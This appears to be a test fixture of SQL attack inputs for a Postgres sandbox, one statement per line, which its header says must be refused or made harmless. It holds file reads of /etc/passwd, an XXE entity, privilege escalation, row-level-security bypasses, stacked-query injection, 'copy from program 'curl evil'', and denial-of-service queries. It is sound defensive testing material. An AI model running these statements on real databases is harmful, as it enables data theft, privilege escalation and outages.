-- What must be refused or harmless: see sql-attacks.test.ts. One text a line. "notes" is a table of the attacker's own.
select xpath('/a', '<a/>'::xml)
select xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
select * from xmltable('/a' passing '<a/>' columns b text path 'b')
select query_to_xml('select * from rowhouse.project_data', true, true, '')
select table_to_xml('rowhouse.project_data', true, true, '')
select schema_to_xml('rowhouse', true, true, '')
select dblink('host=localhost', 'select 1')
select * from dblink_connect('x')
select lo_creat(1), lo_export(1, '/tmp/x')
select lo_get(1), lo_put(1, 0, 'x'), lo_from_bytea(0, 'x')
select pg_read_binary_file('/etc/passwd'), pg_stat_file('/'), pg_ls_dir('/'), pg_ls_logdir(), pg_ls_waldir()
select pg_catalog.pg_read_file('PG_VERSION')
select ('/etc/passwd'::text).pg_read_file
select x.pg_read_file from (select '/etc/passwd'::text) x (x)
select g.pg_sleep from generate_series(5, 5) g
select (5::float8).pg_sleep
select n.pg_column_toast_chunk_id from notes n
select pg_sleep_for('5 seconds'), pg_sleep_until(now())
select "pg_sleep"(5)
select PG_CATALOG."pg_sleep"(5)
select u&"pg\005fsleep"(5)
select 1 operator(pg_catalog.+) 1
select 1 operator(rowhouse.+) 1
select 1 operator(public.=) 1
select 'rowhouse.project_data'::regclass
select 'pg_class'::regclass::oid, 'int4'::regtype, 'now'::regproc, 'postgres'::regrole, 'rowhouse'::regnamespace
select cast('rowhouse.project_data' as regclass)
select regclass 'rowhouse.project_data'
select to_regclass('rowhouse.project_data'), to_regrole('postgres'), to_regproc('now'), to_regtype('int4')
select * from json_to_record('{"a":"rowhouse.project_data"}') as x (a regclass)
select * from json_table('{"a":"pg_authid"}', '$' columns (a regclass path '$.a'))
select json_value('"rowhouse.users"', '$' returning regclass)
select jsonb_populate_record(null::rowhouse.project_data, '{}')
select null::rowhouse.project_data
select null::pg_catalog.pg_authid
select array[]::pg_authid[]
select (json_populate_record(null::record, '{"a":1}'))
select set_config('app.claims', '', true)
select set_config('role', 'postgres', false), current_setting('app.claims')
select current_setting('is_superuser'), current_setting('data_directory')
set search_path to rowhouse
set local role rowhouse_request
set session "app.claims" = 'x'
reset role
reset all
show all
show data_directory
discard all
set transaction read write
set constraints all deferred
select current_user, session_user, current_role, user, current_catalog, current_schema
select current_schemas(true), current_database(), version(), inet_server_addr(), inet_client_port(), pg_backend_pid()
select pg_postmaster_start_time(), pg_conf_load_time(), pg_is_in_recovery()
select has_table_privilege('rowhouse.users', 'select'), pg_has_role('postgres', 'member')
select pg_table_size('rowhouse.project_data'), pg_database_size(1), pg_total_relation_size(1), pg_relation_filepath(1)
select pg_get_functiondef(1), pg_get_viewdef(1), pg_get_expr('', 1), pg_get_indexdef(1), obj_description(1)
select * from pg_stat_activity
select * from pg_catalog.pg_stats where schemaname = 'rowhouse'
select * from pg_stat_get_activity(null)
select pg_stat_reset(), pg_stat_get_live_tuples(1)
select * from pg_locks, pg_settings, pg_roles, pg_shadow, pg_user, pg_tables
select * from information_schema.columns
select * from rowhouse.project_data
select * from "rowhouse"."users"
select * from app.signing_key
select * from template1.pg_catalog.pg_class
select * from supabase_migrations.schema_migrations
select app.project_id(), app.claims(), app.violates_reference('a', 'b', 'c', 'd', 'e', 'f', true)
select app.refuse_row('x', '[]', 0, array['a']), app.affected_row_twice(), app.end_user_id()
select nextval('rowhouse.x'), currval('x'), lastval(), setval('x', 1)
select txid_current(), pg_current_xact_id(), pg_current_snapshot(), txid_status(1), pg_xact_commit_timestamp('1')
select pg_advisory_lock(1), pg_try_advisory_lock(1), pg_advisory_unlock_all(), pg_advisory_xact_lock(1)
select pg_notify('a', 'b')
listen a
notify a, 'b'
unlisten *
lock table notes
lock table rowhouse.project_data in access exclusive mode
prepare p as select * from rowhouse.project_data
execute p
deallocate all
declare c cursor with hold for select * from notes
fetch all from c
close all
move 1 in c
copy notes to stdout
copy (select * from notes) to '/tmp/x'
copy notes from program 'curl evil'
copy notes from '/etc/passwd'
do $$begin execute 'drop table rowhouse.project_data'; end$$
do language plpgsql $$begin create type x as enum ('a'); execute 'x'; exception when duplicate_object then null; end$$
do $$ begin drop table notes; select pg_sleep(9); exception when others then null; end $$
call pg_sleep(1)
load 'auto_explain'
create extension dblink
create language plperlu
create function f() returns text language plpython3u as 'x'
create function f() returns text language sql as 'select pg_read_file(''/etc/passwd'')'
create function f() returns setof text language sql as 'select data::text from rowhouse.project_data'
create function f() returns text language sql security definer set search_path = rowhouse as 'select current_user::text'
create function f(a text default pg_read_file('/etc/passwd')) returns text language sql as 'select a'
create view v as select * from rowhouse.project_data
create view v as select pg_sleep(1)
create view v with (security_barrier = false) as select * from pg_stats
create table t (a text default pg_read_file('/etc/passwd'))
create table t (a text default current_user)
create table t (a int check (pg_sleep(1) is null))
create table t (a text generated always as (pg_read_file(a)) stored)
create table t (a regclass, b oid, c xml, d pg_lsn)
create table t as select * from rowhouse.project_data
create table t as select pg_read_file('/etc/passwd')
create table t (like rowhouse.project_data)
create table t (like pg_authid including all)
create table rowhouse.t (a int)
create table pg_temp.t (a int)
create temp table t (a int)
create unlogged table t (a int) tablespace pg_default
create unique index u on notes ((pg_sleep(1)::text))
create unique index u on notes (note) where exists (select from rowhouse.project_data)
create unique index u on notes ((app.project_id()::text))
create unique index u on rowhouse.project_data (id)
create policy p on notes using (pg_sleep(1) is null)
create policy p on notes using (exists (select from rowhouse.project_data))
create trigger t after insert on notes execute function f()
create rule r as on insert to notes do instead delete from notes
create event trigger t on ddl_command_start execute function f()
create server s foreign data wrapper postgres_fdw
create publication p for all tables
create subscription s connection 'host=evil' publication p
create role x superuser
create database x
create schema x authorization postgres
alter system set work_mem = '1GB'
alter role postgres superuser
alter database postgres set search_path = x
alter table rowhouse.project_data disable row level security
alter table notes owner to postgres
alter function app.claims() owner to rowhouse_sql
alter default privileges grant all on tables to public
grant all on rowhouse.project_data to public
grant rowhouse_owner to rowhouse_sql
security label on table notes is 'x'
comment on database postgres is 'x'
reassign owned by postgres to rowhouse_sql
drop owned by rowhouse_owner
drop schema rowhouse cascade
drop database postgres
truncate rowhouse.project_data
vacuum full notes
analyze rowhouse.project_data
checkpoint
reindex table rowhouse.project_data
cluster rowhouse.project_data
refresh materialized view x
explain select * from rowhouse.project_data
explain (analyze, settings) select pg_sleep(1)
explain analyze create table x as select 1
explain execute p
merge into rowhouse.project_data d using notes n on true when matched then delete
merge into notes n using rowhouse.project_data d on true when not matched then insert (note) values (d.data::text)
merge into notes n using (select 'x' as v) s on true when matched then update set note = pg_read_file('/etc/passwd')
merge into notes n using (select 'x' as v) s on n.note = s.v when not matched then insert (note) values (s.v) returning (select data from rowhouse.project_data limit 1)
merge into notes n using (select 'x' as v) s on n.note = s.v when matched then do nothing returning "$w".*, "$s".*
merge into notes n using (select 1 as "$n", 'x' as "$f0") s on true when matched then delete
insert into notes (note) select data::text from rowhouse.project_data
insert into notes (note) values ((select data::text from rowhouse.project_data limit 1))
insert into notes (project_id, note) values ('00000000-0000-0000-0000-000000000000', 'x')
update notes set project_id = '00000000-0000-0000-0000-000000000000'
update notes set note = d.data::text from rowhouse.project_data d
update notes set note = "$t"."$data"::text
update notes set note = 'x' where "$t"."$project_id" is not null
delete from notes using rowhouse.project_data d where d.id = notes.id
delete from notes returning (select string_agg(note, '') from rowhouse.project_data)
insert into notes (id, note) values (gen_random_uuid(), 'x') on conflict (id) do update set note = d.data::text
insert into notes (note) values ('x') returning "$w".*
with "$notes" as (select 1) insert into notes (note) select 'x' from "$notes"
select * from "$notes"
select "$t".* from notes
with recursive bomb (n) as (select 1 union all select n + 1 from bomb) select count(*) from bomb
with recursive bomb (s) as (select 'x' union all select s || s from bomb) select max(length(s)) from bomb
with a as (select generate_series(1, 100000) g), b as (select a.g from a, a a2), c as (select b.g from b, b b2) select count(*) from c
select count(*) from generate_series(1, 10000000000)
select array_agg(g) from generate_series(1, 1000000000) g
select string_agg(repeat('x', 1000000), '') from generate_series(1, 2000)
select repeat('x', 1000000000)
select repeat(repeat('x', 100000000), 20)
select lpad('x', 1000000000), rpad('x', 1000000000)
select array_fill(1, array[100000000])
select jsonb_agg(repeat('x', 10000000)) from generate_series(1, 100)
select ('(a+)+$')::text ~ repeat('a', 10), repeat('a', 50) || '!' ~ '^(a|a)*(a|a)*(a|a)*$'
select regexp_replace(repeat('a', 100000), '(a*)*b', 'x', 'g')
select regexp_count(repeat('a', 1000000), '(a|aa)+$')
select repeat('a', 5000) similar to '((a|aa)*)*b'
select to_tsvector(repeat('word ', 1000000))
select 9 ^ 9 ^ 9 ^ 9, factorial(100000)
select numeric '1e131071' * numeric '1e131071'
select power(10::numeric, 100000)
select jsonb_path_query('[1]', '$ ? (@ like_regex "(a*)*b")')
select convert_from('\xff', 'UTF8'), chr(0), convert('a', 'UTF8', 'nope')
select 1 from notes order by (select count(*) from generate_series(1, 100000000))
select 1 limit (select count(*) from generate_series(1, 100000000))
select case when (select count(*) from notes where note = 'secret') > 0 then pg_sleep(5) end
select count(*) from notes where note > 'a' and 1 / (case when note = 'secret' then 0 else 1 end) > 0
select note::int from notes
select cast(note as date) from notes
select * from notes n where row_to_json(n)::text like '%secret%'
select (n.*)::text, n::text, to_jsonb(n), json_agg(n) from notes n group by n
select json_object_keys(row_to_json(n)) from notes n
select * from notes n, lateral (select n.*) x
select notes.tableoid, notes.ctid, notes.xmin, notes.cmax from notes
select n.project_id, n.table_id, n.data, n.t1, n.u1, n.r1 from notes n
select password_hash from users
select u.* from users u where u.password_hash like '$2%'
select auth.uid(), auth.jwt(), auth.role()
select auth.admin()
select ''; drop table rowhouse.project_data; --
select 1 /* ; */ ; set role postgres
select 1 where 'a' = 'a' or 1=1 union select null, null from pg_shadow --
begin; set role postgres; commit
begin; select 1; commit; select 2
rollback; select 1
commit
savepoint a; rollback to b
release nope
start transaction isolation level serializable; select 1; commit
set transaction isolation level read uncommitted
select pg_export_snapshot()
set transaction snapshot '00000003-0000001B-1'
select pg_logical_emit_message(false, 'a', 'b'), pg_create_restore_point('x'), pg_switch_wal(), pg_reload_conf(), pg_rotate_logfile()
select pg_create_logical_replication_slot('x', 'test_decoding')
select pg_import_system_collations('pg_catalog')
select ts_stat('select data from rowhouse.project_data'), ts_rewrite('a'::tsquery, 'select data from rowhouse.project_data')
select ts_debug('a'), ts_parse('default', 'a'), ts_lexize('english_stem', 'a')
select to_tsvector('pg_catalog.nope', 'x'), 'nope'::regconfig, to_tsvector('/etc/passwd', 'x')
select cursor_to_xml('c', 1, true, true, ''), database_to_xml(true, true, '')
select binary_upgrade_set_next_pg_type_oid(1), pg_nextoid('pg_class', 'oid', 'x')
select brin_summarize_new_values(1), gin_clean_pending_list(1)
select suppress_redundant_updates_trigger(), RI_FKey_check_ins(), unique_key_recheck()
select int4in('1'), textin('a'), array_in('{}', 1, 1), record_in('()', 1, 1), regclassin('pg_class'), domain_in('x', 1, 1)
select textrecv(null), byteain('x'), cstring_out('x'), any_in('x'), pg_ndistinct_in('x')
select acldefault('r', 1), aclexplode('{}'), makeaclitem(1, 1, 'x', true)
select pg_filenode_relation(1, 1), pg_relation_is_publishable(1), row_security_active('notes')
select pg_input_is_valid('x', 'regclass'), pg_input_error_info('rowhouse.users', 'regclass')
select pg_describe_object(1, 1, 0), pg_identify_object(1, 1, 0), pg_get_object_address('table', '{rowhouse,users}', '{}')
select pg_safe_snapshot_blocking_pids(1), pg_blocking_pids(1), pg_isolation_test_session_is_blocked(1, '{}')
select format_type(23, -1), pg_typeof(1)::oid, pg_typeof(1)::regtype::text, col_description(1, 1)
select pg_char_to_encoding('x'), getdatabaseencoding(), pg_client_encoding()
select pg_cancel_backend(1), pg_terminate_backend(1), pg_log_backend_memory_contexts(1), pg_promote()
select 'x' collate "nope", 'x' collate rowhouse.x, 'a' < 'b' collate pg_catalog."C"
select * from generate_series(1, 3) as rowhouse (a), lateral (select rowhouse.project_data.data from rowhouse.project_data) x
copy notes (note) from stdin with (format csv, program 'id')
select null::pg_authid
select (null::pg_authid).rolpassword
select jsonb_populate_record(null::pg_authid, '{}')
select row('/etc/passwd')::regclass
select pg_read_file(n) from notes n
-- Names that hide others
with pg_catalog as (select 1 x) select * from pg_catalog.pg_class
with rowhouse as (select 1 as project_data) select rowhouse.project_data from rowhouse
with project_data as (select 'x' as data) select data from project_data
with recursive project_data as (select * from notes) select * from project_data limit 1
with "app" as (select 1 as project_id) select app.project_id from app
with app as (select 1 a) select app.project_id() from app
with pg_temp as (select 1) select * from pg_temp.notes
with information_schema as (select 1 as tables) select information_schema.tables from information_schema
select * from notes as project_data where project_data.project_id is not null
select project_data.* from notes project_data
select rowhouse.* from notes rowhouse
select public.project_data.data from notes
with notes as (select * from notes), n2 as (select data from notes) select * from n2
with d as (select 1) select d.data from notes
select d.data from notes
select d.project_id from notes
select "d"."data" from (select * from notes) x
select (select d.data) from notes
select (select "d"."project_id" limit 1) from notes, lateral (select 1) y
select x.* from notes n, lateral (select d.*) x
select n.note from notes n order by d.data
select 1 from notes group by d.id
select result.* from notes
with notes as (select 1) select result.* from notes
with notes as (select * from notes) select result from notes
select * from PUBLIC."notes"; select * from "PUBLIC".notes
select * from "public.notes"
select * from "notes"""
select * from U&"\0072owhouse".project_data
select * from U&"!0072owhouse" UESCAPE '!'.project_data
select * from U&"d!0061t" UESCAPE '!'
select * from rowhouse . /* x */ project_data
select * from pg_catalog.pg_class as notes
table rowhouse.users
table pg_authid
select * from "Notes"
select * from notes@x
select * from only notes
select * from notes *
select * from public.notes as "rowhouse".x
with notes as not materialized (table project_data) table notes
with x as (select * from y), y as (select * from rowhouse.users) select * from x
with a as (with b as (select * from rowhouse.users) select * from b) select * from a
select * from notes n1 join rowhouse.project_data using (id)
select * from notes natural join rowhouse.project_data
select * from (select * from notes) as n(project_id, data, table_id)
select t.t1 from notes t
select u1, s1, r1 from notes
select n1 from notes
select "$t" from notes
select "$id" from notes
select "$1_rows" from notes
with "$1_rows" as (select 1) update notes set n = 1
update notes "$t" set n = 1
update notes as "d" set n = 1 where d.data is not null
update notes set n = 1 returning "$w".*, "$r".*
insert into notes ("$id") values ('x')
insert into notes (data) values ('{}')
insert into notes as d (note) values ('x') returning d.data, d.project_id
delete from notes as d returning d.*, d.table_id
merge into notes d using (select 1) s on true when matched then update set n = d.data::int
select excluded.* from notes
insert into notes (id, note) values (1,'x') on conflict (id) do update set note = excluded.data
insert into notes (id, note) values (1,'x') on conflict (id) do update set note = d.project_id::text
-- Operators and collations of other schemas
select 1 operator(pg_temp.+) 1
select 1 operator(rowhouse.=) 1
select 'a' operator(app.==) 'b'
select id operator(app.==) id from notes
select 1 = any (select 1) , 1 operator(app.==) any (array[1])
select * from notes order by n using operator(app.<)
select 'a' collate "app".x
select 'a' collate pg_temp.x
select (1).app.f
select array[1] operator(pg_catalog.@>) array[1]
select 'x' collate "und-x-icu" < 'y'
select 'a' < 'b' collate "unicode"
select 1 #= 2
select |/ 4, @ -5, !! 'a'::tsquery
-- Types that look something up, wherever a type may stand
select null::regclass[]
select * from json_to_record('{"a":"1"}') as x(a regclass)
select json_value('1', '$' returning regclass)
select null::regrole[]
select * from json_to_record('{"a":"1"}') as x(a regrole)
select json_value('1', '$' returning regrole)
select null::xid8[]
select * from json_to_record('{"a":"1"}') as x(a xid8)
select json_value('1', '$' returning xid8)
select null::pg_lsn[]
select * from json_to_record('{"a":"1"}') as x(a pg_lsn)
select json_value('1', '$' returning pg_lsn)
select null::xml[]
select * from json_to_record('{"a":"1"}') as x(a xml)
select json_value('1', '$' returning xml)
select null::aclitem[]
select * from json_to_record('{"a":"1"}') as x(a aclitem)
select json_value('1', '$' returning aclitem)
select null::pg_node_tree[]
select * from json_to_record('{"a":"1"}') as x(a pg_node_tree)
select json_value('1', '$' returning pg_node_tree)
select null::rowhouse.project_data[]
select * from json_to_record('{"a":"1"}') as x(a rowhouse.project_data)
select json_value('1', '$' returning rowhouse.project_data)
select null::information_schema.sql_identifier[]
select * from json_to_record('{"a":"1"}') as x(a information_schema.sql_identifier)
select json_value('1', '$' returning information_schema.sql_identifier)
-- Attribute notation, wherever an expression may stand
select ('x').pg_sleep
select (n).pg_sleep from notes n
select n.pg_sleep from notes n
select (select n from notes n limit 1).pg_sleep
select x.y.pg_sleep from (select n as y from notes n) x
select (x.y).pg_sleep from (select '1'::text as y) x
select (array['x'])[1].pg_sleep
update notes set note = (note).pg_sleep
insert into notes (note) values ('x') returning (note).pg_sleep
select ('x').query_to_xml
select (n).query_to_xml from notes n
select n.query_to_xml from notes n
select (select n from notes n limit 1).query_to_xml
select x.y.query_to_xml from (select n as y from notes n) x
select (x.y).query_to_xml from (select '1'::text as y) x
select (array['x'])[1].query_to_xml
update notes set note = (note).query_to_xml
insert into notes (note) values ('x') returning (note).query_to_xml
select ('x').to_regclass
select (n).to_regclass from notes n
select n.to_regclass from notes n
select (select n from notes n limit 1).to_regclass
select x.y.to_regclass from (select n as y from notes n) x
select (x.y).to_regclass from (select '1'::text as y) x
select (array['x'])[1].to_regclass
update notes set note = (note).to_regclass
insert into notes (note) values ('x') returning (note).to_regclass
-- Statements of other kinds
set app.claims = ''
set local app.claims = ''
set session characteristics as transaction read only
set role none
reset app.claims
prepare a as select 1
execute a
deallocate a
declare a cursor for select 1; fetch a
begin; declare c cursor for select 1; fetch c; commit
unlisten a
copy notes to program 'id'
copy (delete from notes returning *) to stdout
do $$ begin raise notice 'x'; end $$
do language sql $$ select 1 $$
call f()
lock notes in exclusive mode
analyze
analyze notes
cluster
reindex database rowhouse
import foreign schema a from server b into c
alter table notes set schema rowhouse
alter table notes inherit rowhouse.project_data
alter table notes attach partition x default
alter table notes set (autovacuum_enabled=false)
alter table notes set tablespace x
alter table notes disable trigger all
alter table notes force row level security
alter table notes replica identity full
alter table notes cluster on x
alter table notes set access method x
alter table notes of x
alter table notes alter column note set storage external
alter table notes alter column note set compression lz4
alter table notes alter column note set statistics 1000
alter table rowhouse.project_data add column x int
alter system reset all
alter role current_user set x = y
alter default privileges grant select on tables to public
alter function f() security definer
alter database x rename to y
alter sequence x restart
comment on role postgres is 'x'
comment on column rowhouse.project_data.data is 'x'
security label for x on table notes is 'y'
revoke all on all tables in schema rowhouse from rowhouse_request
reassign owned by current_user to postgres
truncate notes, rowhouse.project_data cascade
set constraints all immediate
savepoint a; release a
prepare transaction 'x'
commit prepared 'x'
rollback and chain
begin isolation level serializable; select 1; commit
explain (generic_plan) select $1 from notes
explain (analyze, wal, buffers, memory, serialize binary) select * from notes
explain (settings) select 1
explain (format xml) select 1
explain verbose select * from notes
explain analyze create table zz as select 1
explain (analyze) execute x
explain declare c cursor for select 1
explain analyze insert into notes (note) values ('e')
explain explain select 1
-- Definitions that would run or name what is not theirs
create table evil (a text default pg_read_file('x'))
create table evil (a text default current_setting('app.claims'))
create table evil (a text default session_user)
create table evil (a text check (a ~ pg_ls_dir('/')))
create table evil (a int generated always as (pg_sleep(1)::text::int) stored)
create table evil (a int references rowhouse.project_data(id))
create table evil (a int references pg_class(oid))
create table evil (a int default (select count(*) from rowhouse.users))
create table evil (a int check ((select count(*) from notes) > 0))
create table evil (a uuid default app.project_id())
create table evil (a text collate rowhouse.x)
create table evil (a rowhouse.project_data)
create table evil (a regclass)
create table evil (a int) inherits (rowhouse.project_data)
create table evil partition of rowhouse.project_data default
create table evil (like pg_stat_activity)
create table evil of rowhouse.x
create table evil as table pg_authid
create table evil as execute x
create table evil as select * from rowhouse.project_data
select * into evil from pg_authid
select * into temp evil from notes
create table pg_temp.evil (a int)
create table "rowhouse.project_data" (a int)
create table project_data (data text, project_id text); insert into project_data values ('x','y'); select * from project_data; drop table project_data
create table app (project_id int); select app.project_id from app; drop table app
create table pg_class (relname text); select * from pg_class; drop table pg_class
create table pg_authid (rolname text); select * from pg_catalog.pg_authid
create table information_schema (tables text)
create table "$t" (a int)
create table "$1_rows" (a int)
create table t1 (t1 text, u1 text, data jsonb, project_id uuid, table_id uuid, id int, d int); insert into t1 (t1,u1,project_id) values ('a','b',gen_random_uuid()); select * from t1; select d.data from t1 d; update t1 set data='{}' returning *; drop table t1
create table "a""; drop table rowhouse.project_data; --" ("b""; select 1; --" text); drop table "a""; drop table rowhouse.project_data; --"
create table "'||pg_sleep(5)||'" (a int); drop table "'||pg_sleep(5)||'"
create table x ("constructor" int, "__proto__" int, "toString" int, "hasOwnProperty" text); insert into x ("__proto__", "constructor") values (1, 2); select * from x; drop table x
create view evil as select * from pg_stat_activity
create view evil as select current_setting('app.claims')
create view evil as select pg_sleep(5)
create view evil as select * from rowhouse.users
create view evil as select set_config('a','b',false)
create view rowhouse.evil as select 1
create view evil as delete from notes returning *
create view evil (project_id, data) as select id, note from notes; select * from evil limit 1; drop view evil
create or replace view notes as select 1
create recursive view evil (a) as select 1 union all select a+1 from evil
create temp view evil as select 1
create view evil as select * from evil
create view evil with (security_invoker=false) as select * from notes; select count(*) from evil; drop view evil
create function evil() returns text language sql as 'select pg_read_file(''/etc/passwd'')'
create function evil() returns text language plpgsql as 'begin return 1; end'
create function evil() returns text language c as 'x','y'
create function evil() returns text language internal as 'pg_read_file'
create function evil() returns void language sql as 'set role postgres'
create function evil() returns void language sql as 'select 1; drop table notes'
create function evil() returns void language sql as 'copy notes to ''/tmp/x'''
create function evil() returns int language sql set search_path = rowhouse as 'select 1'
create function evil() returns int language sql set role = postgres as 'select 1'
create function evil() returns int language sql set "app.claims" = '' as 'select 1'
create function evil(a text default current_setting('app.claims')) returns text language sql as 'select a'
create function evil(a regclass) returns text language sql as 'select a::text'
create function evil() returns setof rowhouse.project_data language sql as 'select * from rowhouse.project_data'
create function evil() returns setof notes language sql as 'table notes'; select count(*) from evil(); drop function evil()
create function evil(variadic a int[]) returns int language sql as 'select 1'
create function evil(a int) returns int language sql as 'select evil(a+1)'
create function evil1(a int) returns int language sql as 'select evil2(a)'
create function pg_catalog.evil() returns int language sql as 'select 1'
create function lower(text) returns text language sql as 'select pg_sleep(5)::text'
create function count(int) returns int language sql as 'select 1'; select count(1); drop function count(int)
create function abs(a int) returns text language sql as 'select note from notes limit 1'; select abs(1); drop function abs(int)
create function evil(a text) returns text language sql immutable as 'select note from notes limit 1'; create index on notes (evil(note)); drop function evil(text)
create policy p on notes using (current_setting('app.claims') is null)
create policy p on notes using (exists (select from rowhouse.users))
create policy p on notes to postgres using (true)
create policy p on rowhouse.project_data using (true)
create policy p on notes using (true); drop policy p on notes
alter policy tenant_select on rowhouse.project_data using (true)
drop policy tenant_select on rowhouse.project_data
create sequence evil
create table evil (id int default nextval('rowhouse.x'))
create table evil (id int default nextval('project_identity'))
create table evil (id int generated always as identity (maxvalue 3)); insert into evil default values; drop table evil
create index evil on notes using gist (note)
create index evil on notes ((pg_read_file('x')))
create index evil on notes (note) tablespace x
create index evil on rowhouse.project_data (data)
create unique index concurrently evil on notes (note)
create index on notes using hash (note)
drop table notes, rowhouse.project_data
drop schema public cascade
drop table if exists rowhouse.users cascade; select 1
alter table notes rename to "rowhouse.project_data"; alter table "rowhouse.project_data" rename to notes
alter table notes add constraint x foreign key (id) references rowhouse.project_data (id)
alter table notes add constraint x exclude using gist (n with =)
alter table notes add column x text default version()
comment on table notes is 'x'' ; drop table rowhouse.project_data; --'
create type evil as enum ('a'); select 'a'::evil, enum_range(null::evil); drop type evil
create type regclass as enum ('a'); select 'pg_class'::regclass
create type text as enum ('a'); select 'b'::text; drop type text
create type pg_read_file as enum ('/etc/passwd'); select ('/etc/passwd').pg_read_file; drop type pg_read_file
create table pg_sleep (a int); select pg_sleep from pg_sleep; select pg_sleep.a from pg_sleep; drop table pg_sleep
create table lo_get (lo_get int, pg_ls_dir text); select l.lo_get, l.pg_ls_dir from lo_get l; drop table lo_get
-- Texts, values and their encodings
select E'\000'
select U&'\0000'
select U&'\D800'
select U&'\+110000'
select E'\xff\xfe'
select chr(1114112), chr(0)
select convert_from('\x00','UTF8')
select convert_from('\xc328','UTF8')
select $1::text
select '‮⁦ select 1'
select '﻿1'
﻿select 1
select 1 + 1
select 1
select ""
select U&"\0000"
select """
select $$
select $a$x
select E'\
select '
/*
/* /* */
--
select 1 /* */ ; /* */
select 0x1F, 0b11, 0o17, 1_000
select 1e400
select 'NaN'::float8, 'inf'::numeric
select -9223372036854775808 / -1
select 1.5e-16400::numeric
select '\u0000'::jsonb
select '{"a":"\u0000"}'::json ->> 'a'
select E'\u0000'
select json '"\ud800"' #>> '{}'
select decode('zz','hex')
select xmlelement(name x, 'a')
select '{{1},{2,3}}'::int[]
select '[2:100000000]={}'::int[]
select '[-2147483648:-2147483647]={1,2}'::int[]
select array[1][2147483647]
update notes set note = note[2147483647]
select ('{1,2}'::int[])[-2147483648:2147483647]
-- What takes memory or time
select (repeat('[', 6000) || repeat(']', 6000))::json
select length(translate(repeat('a', 30000), repeat('b', 3000), ''))
select overlay(repeat('x', 500000000) placing repeat('y', 500000000) from 1)
select to_char(1, repeat('9', 100000000))
select 'a' ~ 'a{1,255}{1,255}{1,255}'
select format('%1000000000s', 'x')
with recursive x(a) as (select repeat('x', 1000000) union all select a || 'x' from x) select count(a) from x
select jsonb_path_query('[1,2]', '$.** .** .** .** .**')
-- Text that becomes a name, server functions in every place of a grammar, and definitions beside them
select pg_typeof(notes) from notes
select pg_typeof(null::notes)::text
select format('%s', 'pg_class'::regclass)
select quote_ident('x')::regclass
select 'notes'::regclass
select 'public.notes'::regclass::oid::int
select to_regclass('notes')
select to_regtype('notes')
select 'rowhouse.project_data'::text::regclass
select cast('1259' as oid)::regclass
select 1259::oid
select 1::oid::text
select '{1259}'::oid[]
select '1259'::regclass
select array['pg_class']::regclass[]
select 'int4'::regtype::text
select 'pg_catalog.pg_class'::regclass::text::regclass
select 'english'::regconfig
select 'simple'::regdictionary
select to_tsvector('english'::regconfig, 'a')
select 'C'::regcollation
select 'sum(int4)'::regprocedure
select '+(int4,int4)'::regoperator
select xmlconcat('<a/>')
select xmlforest(note) from notes
select xmlpi(name php, 'x')
select xmlroot('<a/>', version '1.0')
select xmlserialize(content '<a/>' as text)
select '<a/>'::xml is document
select xmlexists('//a' passing '<a/>')
select xpath_exists('/a','<a/>')
select query_to_xmlschema('select 1',true,true,'')
select table_to_xmlschema('notes',true,true,'')
select xml_is_well_formed('<a/>')
select current_setting('data_directory')
select current_setting('app.claims', true)
select current_setting('backtrace_functions', true)
select current_setting('request.jwt.claims', true)
select set_config('statement_timeout','0',false)
select set_config('request.jwt.claims', '{}', true)
select current_setting('statement_timeout')
show statement_timeout
set statement_timeout = 0
set local role none
select set_config('search_path','rowhouse',false)
select pg_sleep(1)
select pg_catalog.pg_sleep(1)
select pg_sleep_for('1s')
select pg_advisory_xact_lock(1)
select pg_try_advisory_lock_shared(1)
select pg_notify('catalog_changed','x')
select pg_cancel_backend(pid) from generate_series(1,9) pid
select pg_terminate_backend(1, 1)
select pg_backend_pid()
select pg_blocking_pids(1)
select lo_open(1, 1)
select loread(1,1)
select lowrite(1,'x')
select lo_truncate(1,1)
select lo_unlink(1)
select pg_stat_get_tuples_returned(1)
select pg_stat_get_backend_activity(1)
select pg_stat_clear_snapshot()
select pg_relation_size('notes')
select pg_size_pretty(1::bigint)
select pg_column_size(note) from notes
select pg_column_size(notes) from notes
select pg_column_compression(note) from notes
select has_table_privilege('rowhouse.users','select')
select pg_table_is_visible(1)
select pg_get_keywords()
select * from pg_get_catalog_foreign_keys()
select * from pg_options_to_table('{a=b}')
select * from pg_timezone_names() limit 1
select * from pg_show_all_settings()
select * from pg_cursor
select * from pg_prepared_statement()
select * from pg_available_extensions()
select * from pg_hba_file_rules()
select * from pg_stat_statements
select * from pg_get_wal_summarizer_state()
select pg_current_logfile()
select pg_tablespace_location(1)
select pg_collation_actual_version(1)
select unicode_version()
select icu_unicode_version()
select version()
select system_user
select current_schema()
select current_database()
select inet_client_addr()
select pg_my_temp_schema()
select txid_current()
select pg_xact_status('1')
select age('1'::xid)
select '1'::xid8
select '0/0'::pg_lsn
select '1:1:'::pg_snapshot
select '(0,1)'::tid
select currtid2('notes','(0,1)')
select '1'::cid
select '\x'::pg_brin_bloom_summary
select 'a'::refcursor
select 'a'::name
select 'a'::"char"
select '1 2'::int2vector
select '1 2'::oidvector
select 'x'::cstring
select row(1)::record
select null::anyelement
select null::void
select null::trigger
select null::internal
select 'a'::unknown
select null::pg_ddl_command
select null::txid_snapshot
select null::gtsvector
select notes.xmin from notes
select notes.ctid::text from notes
select (notes).project_id from notes
select notes."$id" from notes
select n.data from notes n
select to_jsonb(n) from notes n
select row_to_json(n.*) from notes n
select jsonb_populate_record(n, '{"note":"x"}') from notes n
select jsonb_populate_recordset(null::notes, '[{"id":1}]')
select json_populate_record(null::project_data, '{}')
select (jsonb_populate_record(null::notes,'{"id":5}')).*
select * from jsonb_to_record('{"a":1}') as x(a oid)
select * from jsonb_to_record('{"a":"pg_class"}') as x(a regclass[])
select * from json_table('{"a":"pg_class"}','$' columns(a regclass path '$.a'))
select json_query('{"a":1}','$.a' returning oid)
select json_serialize('{}' returning bytea)
select json_scalar('pg_class'::regclass)
select json_object('a': pg_read_file('x'))
select json_arrayagg(x order by pg_sleep(1)) from generate_series(1,2) x
select json_array(select note from rowhouse.project_data)
select json_array(select data from project_data)
select merge_action()
select grouping(note) from notes group by note
select any_value(note) from notes
select * from rows from (generate_series(1,2), pg_ls_dir('/')) x
select * from rows from (pg_sleep(1)) with ordinality
select * from generate_series(1,2) with ordinality as t(pg_sleep, x)
select * from notes tablesample system (10)
select * from notes tablesample bernoulli(100) repeatable (pg_sleep(1))
select * from notes*
table rowhouse.project_data
(table project_data)
values (pg_read_file('x'))
select * from (values (1)) as rowhouse(project_data)
select * from unnest(array[pg_ls_dir('/')])
